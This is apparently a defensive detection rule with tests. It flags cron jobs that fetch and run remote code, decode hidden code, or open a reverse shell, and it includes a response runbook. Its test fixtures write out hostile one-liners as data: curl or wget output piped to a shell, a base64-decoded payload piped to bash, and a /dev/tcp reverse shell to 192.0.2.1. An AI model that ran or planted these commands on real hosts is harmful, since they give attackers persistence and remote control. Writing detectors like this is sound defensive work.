import { cronCommand } from '../../src/detect/reading/cron.ts'
import { givesShellAway, runsDecodedCode, runsFetchedCode } from '../../src/detect/reading/remote-code.ts'
import { rule, table } from '../../src/detect/rule.ts'

/** An address without a name: nobody's site, and gone tomorrow. */
const BARE_ADDRESS = /:\/\/(?:\d{1,3}\.){3}\d{1,3}(?:[:/\s'"]|$)|:\/\/\[|\.onion\b/i

export default rule({
  id: 'posix.cron-runs-remote-code',
  title: 'Cron job runs code from elsewhere',
  severity: 'high',
  on: table('crontab'),
  attack: ['T1053.003', 'T1105'],
  detect: ({ columns }) => wayOf(cronCommand(columns)) !== null,
  dynamicSeverity: ({ columns }) => {
    const way = wayOf(cronCommand(columns))
    return way !== 'fetches and runs code' || BARE_ADDRESS.test(columns.command) ? 'critical' : undefined
  },
  alertTitle: ({ host, columns }) =>
    `Cron on ${host} ${wayOf(cronCommand(columns)) ?? 'runs code'}: ${columns.command}`,
  context: ({ columns }) => ({
    command: columns.command,
    crontab: columns.path,
    way: wayOf(cronCommand(columns)) ?? '',
  }),
  means:
    'The job brings its code from outside each time it runs, hides it by an encoding, or opens a shell to another host. Miners and bots stay on servers in this way: delete their program, and minutes later it is back.',
  check: 'SELECT event, minute, hour, day_of_month, month, day_of_week, command, path FROM crontab;',
  benign:
    'A home-made updater or monitoring that pipes a script of one’s own site into a shell: bad practice, and the same hole for whoever takes over that site.',
  runbook:
    'Do not run the line. Fetch the code from a safe machine to see what it does. Who wrote the crontab, and when: its owner and times, shell_history, last. Take the job out only after its program is found (processes, /tmp, /dev/shm), or one brings back the other. Isolate the host and look for the way in.',
  references: [
    'https://attack.mitre.org/techniques/T1053/003/',
    'https://attack.mitre.org/techniques/T1105/',
  ],
  replaces: ['Osquery.SuspiciousCron'],
  tests: [
    {
      name: 'fetched and run',
      match: true,
      columns: { command: 'curl -fsSL https://example.com/a | sh', path: '/var/spool/cron/www-data' },
      title: 'Cron on test-host fetches and runs code: curl -fsSL https://example.com/a | sh',
      dedup: 'test-host-id',
      severity: 'high',
      context: {
        command: 'curl -fsSL https://example.com/a | sh',
        crontab: '/var/spool/cron/www-data',
        way: 'fetches and runs code',
      },
    },
    {
      name: 'from a bare address, of a system crontab',
      match: true,
      severity: 'critical',
      columns: {
        command: 'root (curl -s http://192.0.2.1/a||wget -qO- http://192.0.2.1/a)|bash',
        path: '/etc/cron.d/x',
      },
    },
    {
      name: 'there before anyone looked',
      match: true,
      counter: '0',
      columns: { command: 'wget -qO /tmp/a https://example.com/a; sh /tmp/a', path: '/var/spool/cron/ada' },
    },
    {
      name: 'hidden by an encoding',
      match: true,
      severity: 'critical',
      columns: { command: 'echo aWQK | base64 -d | bash', path: '/var/spool/cron/crontabs/root' },
      title: 'Cron on test-host runs code that it decodes: echo aWQK | base64 -d | bash',
    },
    {
      name: 'a shell for somebody else',
      match: true,
      severity: 'critical',
      columns: { command: `bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"` },
      title: `Cron on test-host gives a shell away: bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"`,
    },
    {
      name: 'asks whether a site is well',
      match: false,
      columns: { command: 'curl -fsS https://example.com/health | grep -q ok || /usr/bin/alert' },
    },
    {
      name: 'lets a site do its work',
      match: false,
      columns: { command: 'wget -q -O - https://example.com/wp-cron.php >/dev/null 2>&1' },
    },
    {
      name: 'fetches a list',
      match: false,
      columns: {
        command: 'root curl -so /var/lib/app/list.txt https://example.com/list.txt',
        path: '/etc/cron.d/app',
      },
    },
    {
      name: 'a backup over a connection',
      match: false,
      columns: { command: 'tar c /srv | nc backup.example.com 9000' },
    },
    {
      name: 'the daily jobs of the distribution',
      match: false,
      columns: { command: 'root cd / && run-parts --report /etc/cron.hourly', path: '/etc/crontab' },
    },
    { name: 'no command', match: false, columns: { path: '/etc/crontab' } },
    { name: 'the job is gone', match: false, action: 'removed', columns: { command: 'curl x://a | sh' } },
  ],
})

function wayOf(command: string): string | null {
  if (givesShellAway(command)) return 'gives a shell away'
  if (runsDecodedCode(command)) return 'runs code that it decodes'
  return runsFetchedCode(command) ? 'fetches and runs code' : null
}
